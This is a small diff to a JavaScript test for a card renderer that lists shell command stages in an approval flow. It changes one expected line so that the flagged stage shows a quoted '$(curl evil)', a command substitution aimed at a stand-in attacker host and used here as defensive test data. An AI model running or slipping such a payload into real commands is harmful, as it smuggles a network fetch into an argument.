@@ -201,7 +201,8 @@ describe('renderCard: shell stages', () => {
     expect(text).toContain('✓ 1/2 `npm test` (knownSafe)');
     expect(text).toContain('✓ 2/2 `git push` (policyAllow: mode allowAll)');
     expect(text).toContain('✓ 3/2 `git push` (policyAmendment: `git status`)');
-    expect(text).toContain('▶ 4/2 `$(curl evil)` ← *decide this one* _(not fully parsed)_');
+    // A word holding a space is quoted, as a grant writes it: one word, not two.
+    expect(text).toContain('▶ 4/2 `"$(curl evil)"` ← *decide this one* _(not fully parsed)_');
   });
 
   it('marks no stage current once the approval is final', () => {
